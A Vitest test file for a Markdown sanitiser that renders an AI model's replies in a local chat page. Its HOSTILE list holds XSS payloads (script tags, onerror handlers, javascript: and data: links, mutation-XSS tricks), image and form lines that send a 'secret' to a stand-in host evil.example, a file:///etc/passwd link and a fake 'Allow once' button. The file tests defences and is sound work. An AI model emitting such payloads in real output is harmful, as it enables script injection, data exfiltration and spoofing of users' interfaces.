// @vitest-environment jsdom
import { describe, expect, it } from "vitest";
import { blocks, sanitise, spoken } from "../src/markdown";

const ORIGIN = "http://127.0.0.1:47810";

function draw(text: string): HTMLElement {
  const page = document.createElement("div");
  for (const html of blocks(text)) page.append(sanitise(html, ORIGIN));
  return page;
}

const ALLOWED = new Set(
  "P BR HR BLOCKQUOTE H3 H4 H5 H6 STRONG EM DEL CODE PRE A UL OL LI TABLE THEAD TBODY TR TH TD SPAN".split(" "),
);

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![secret](https://evil.example/?q=secret)",
  '<img src="https://evil.example/pixel">',
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](\u0001javascript:alert(1))",
  "[click](data:text/html,<script>alert(1)</script>)",
  "[click](vbscript:x)",
  "[click](file:///etc/passwd)",
  "[click](//evil.example/x)",
  "<a href='javascript:alert(1)'>x</a>",
  "<javascript:alert(1)>",
  '[a](https://ok.example "title onmouseover=x")',
  '<style>*{display:none}</style><link rel=stylesheet href="https://evil.example/x.css">',
  '<div class="question" id="message"><button>Allow once</button></div>',
  '<form action="https://evil.example"><input name=note><textarea></textarea></form>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data=x></object><embed src=x>',
  "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "`<img src=x onerror=alert(1)>`",
  "```html\n<img src=x onerror=alert(1)>\n```",
  "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
  "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
  "- [x] <button>done</button>",
  '<p role="alert" aria-live="assertive" style="position:fixed" data-x="1" tabindex=0>x</p>',
  "[same](http://127.0.0.1:47810/v1/ui/chat#session=a&token=b)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<https://ok.example/%22onmouseover=alert(1)>",
];

describe("a model's text", () => {
  it.each(HOSTILE)("is harmless: %s", (text) => {
    for (const element of draw(text).querySelectorAll("*")) {
      expect(ALLOWED).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(["href", "target", "rel", "class", "title", "start", "align"]).toContain(name);
        if (name === "class" || name === "title") expect(element.className).toBe("leaves");
        if (name === "href") expect(value).toMatch(/^https?:\/\//);
      }
    }
  });

  it("shows HTML as the text that it is", () => {
    expect(draw("<button>Allow once</button>").textContent?.trim()).toBe("<button>Allow once</button>");
  });

  it("never loads a picture", () => {
    expect(draw("![the pier](https://evil.example/x.png)").innerHTML).toBe("<p>[picture: the pier]</p>\n");
  });

  it("lets a link leave openly", () => {
    const link = draw("[Lightroom](https://adobe.com@evil.example/x)").querySelector("a");
    expect(link?.rel).toBe("noopener noreferrer");
    expect(link?.target).toBe("_blank");
    expect(link?.textContent).toBe("Lightroom ↗ evil.example");
  });

  it("makes no link to the service itself or to nowhere", () => {
    expect(draw(`[a](${ORIGIN}/v1/ui/chat) [b](#x) [c](mailto:a@b.c)`).querySelectorAll("a")).toHaveLength(0);
  });

  it("draws headings below the page's own, lists, tables and code", () => {
    const page = draw("# One\n\n3. three\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n`x`");
    expect(page.querySelector("h3")?.textContent).toBe("One");
    expect(page.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(page.querySelectorAll("td")[1]?.getAttribute("align")).toBe("right");
    expect(page.querySelector("code")?.textContent).toBe("x");
  });

  it.each([
    ["brackets", "[".repeat(20_000)],
    ["stars", "*a ".repeat(20_000)],
    ["quotes", "> ".repeat(20_000)],
    ["lists", Array.from({ length: 400 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")],
    ["backticks", "`".repeat(30_000)],
    ["links", "[a](".repeat(10_000)],
    ["tables", `|${"a|".repeat(5_000)}\n|${"-|".repeat(5_000)}`],
    ["length", "a *b* ".repeat(100_000)],
  ])("survives many %s", (_name, text) => {
    const began = performance.now();
    expect(draw(text).textContent?.length).toBeGreaterThan(0);
    expect(performance.now() - began).toBeLessThan(5_000);
  });

  it("is the same in blocks as a whole, so that a growing text redraws only its end", () => {
    const text = "One **two**\n\n- three\n- four\n\n[five][5]\n\n[5]: https://ok.example";
    const parts = blocks(text);
    expect(blocks(`${text}\n\nmore`).slice(0, 2)).toEqual(parts.slice(0, 2));
    expect(draw(text).querySelector("a")?.getAttribute("href")).toBe("https://ok.example/");
  });
});

describe("a text that is read out", () => {
  it("has no Markdown and an end", () => {
    expect(spoken("## Found\n\n- **two** [photos](https://x.example) `a.jpg`\n\n```\ncode\n```")).toBe(
      "Found two photos a.jpg",
    );
    expect(spoken("a".repeat(1_000)).length).toBe(401);
  });
});
